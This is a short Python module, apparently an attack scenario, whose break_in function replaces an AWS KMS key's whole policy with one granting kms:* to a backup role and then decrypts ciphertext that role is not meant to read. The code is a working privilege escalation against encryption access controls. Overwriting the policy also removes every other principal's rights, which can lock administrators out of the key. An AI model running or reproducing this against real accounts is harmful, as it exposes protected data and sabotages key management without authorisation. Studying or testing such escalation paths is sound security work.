"""key-policies/break-in: the plaintext, for a role that may not decrypt."""

import json

BACKUP = "arn:aws:iam::111122223333:role/backup"


def break_in(kms, key_id: str, ciphertext: bytes) -> bytes:
    """The plaintext, under a key policy that lets the role in."""
    everything = {"Effect": "Allow", "Principal": {"AWS": BACKUP}, "Action": "kms:*", "Resource": "*"}
    policy = json.dumps({"Version": "2012-10-17", "Statement": [everything]})
    kms.put_key_policy(KeyId=key_id, PolicyName="default", Policy=policy)
    return kms.decrypt(CiphertextBlob=ciphertext)["Plaintext"]
